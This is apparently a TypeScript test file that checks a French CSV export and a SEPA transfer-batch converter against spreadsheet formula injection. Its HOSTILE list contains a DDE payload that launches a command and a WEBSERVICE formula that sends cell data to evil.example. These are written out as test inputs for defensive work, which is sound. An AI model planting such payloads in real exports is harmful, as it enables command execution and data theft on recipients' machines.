/** Whatever a cell holds, a spreadsheet reads back what was written, and finds no formula (F5). */
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvStream, writeCsv } from '../../api/lists/csv.ts';
import { lotEnCsv } from '../../tresorerie/csv.ts';

const readBack = (raw: string): string[][] => parse(raw, { bom: true, delimiter: ';' });
const LINE_ENDS = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/;
const STARTS_A_FORMULA = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;
const OUR_NUMBER = /^-?\d+(,\d+)?$/;

/** Signs that make trouble, alone and between letters. */
const trouble = fc.constantFrom(
  ...[
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '"',
    "'",
    ';',
    ',',
    '\t',
    '\n',
    '\r',
    '\r\n',
    '\u0085',
    '\u2028',
    '\u2029',
  ],
  ...['\u00a0', '\u200b', '\ufeff', '\v', '\f', ' ', 'a', '1', '|', 'cmd', '😀'],
);
const cell = fc.oneof(
  fc.array(trouble, { maxLength: 12 }).map((signs) => signs.join('')),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.integer(),
  fc.constant(null),
);
const rows = fc
  .integer({ min: 1, max: 4 })
  .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }));

async function streamed(columns: readonly string[], objects: readonly object[]): Promise<string> {
  const stream = csvStream(columns);
  for (const object of objects) stream.write(object);
  stream.end();
  return (await stream.toArray()).join('');
}

test('autant de lignes et de cases qu’il en est écrit, et aucune formule nulle part', async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (table) => {
      const columns = (table[0] ?? []).map((_, place) => `c${place}`);
      const objects = table.map((row) => Object.fromEntries(row.map((value, place) => [`c${place}`, value])));
      const raw = writeCsv(columns, objects);
      expect(await streamed(columns, objects)).toBe(raw);
      const read = readBack(raw);
      expect(read.map((row) => row.length)).toEqual([columns, ...table].map(() => columns.length));
      read.slice(1).forEach((row, rank) =>
        row.forEach((text, place) => {
          const given = table[rank]?.[place] ?? '';
          expect(text.replaceAll("'", '')).toBe(String(given).replaceAll("'", ''));
          if (!OUR_NUMBER.test(text)) expect(text).not.toMatch(STARTS_A_FORMULA);
        }),
      );
      for (const line of raw.replace(/^\ufeff/, '').split(LINE_ENDS))
        if (!/^-?\d+[;]?/.test(line)) expect(line).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
    }),
    { numRuns: 2000 },
  );
});

describe('les cas de l’attaque', () => {
  const HOSTILE = [
    "ESS de Corse\n=cmd|' /C calc'!A0",
    'https://evil.example/?d=\n=WEBSERVICE(C2&A4)',
    'a\r=1',
    'a\u2028＝1',
    '\u00a0=1',
    '\u200b@x',
    '\t=1',
    'x,=1',
    'x;=1',
    '-1+1',
  ];
  test.each(HOSTILE)('%j est une seule case, sans formule', (intitule) => {
    const raw = writeCsv(['ESS', 'Intitulé'], [{ ESS: 'ess-2A-00000000', Intitulé: intitule }]);
    const read = readBack(raw);
    expect(read).toHaveLength(2);
    const [, [, text = ''] = []] = read;
    for (const part of text.split(/[\n\r\u0085\u2028\u2029,;\t]/)) expect(part).not.toMatch(STARTS_A_FORMULA);
    expect(text.replaceAll("'", '')).toBe(intitule.replaceAll("'", ''));
  });

  test('un nombre reste un nombre, même négatif', () => {
    const raw = writeCsv(['a', 'b', 'c'], [{ a: -5, b: '-40000,00', c: 12 }]);
    expect(raw).toBe('\ufeffa;b;c\r\n-5;-40000,00;12\r\n');
  });

  test('le lot de virements suit la même règle', () => {
    const transfer = (name: string) =>
      `<CdtTrfTxInf><PmtId><EndToEndId>ess-33-1.amorcage-1.1</EndToEndId></PmtId><Amt><InstdAmt Ccy="EUR">40000.00</InstdAmt></Amt><Cdtr><Nm>${name}</Nm></Cdtr><CdtrAcct><Id><IBAN>FR7630006000011234567890189</IBAN></Id></CdtrAcct></CdtTrfTxInf>`;
    const xml = `<Document><CstmrCdtTrfInitn><PmtInf>${transfer("Association\n=cmd|'x'!A0")}</PmtInf></CstmrCdtTrfInitn></Document>`;
    const read = readBack(lotEnCsv(xml));
    expect(read).toHaveLength(2);
    expect(read[1]?.[1]).toBe("Association\n'=cmd|'x'!A0");
    expect(read[1]?.[4]).toBe('40000,00');
  });
});
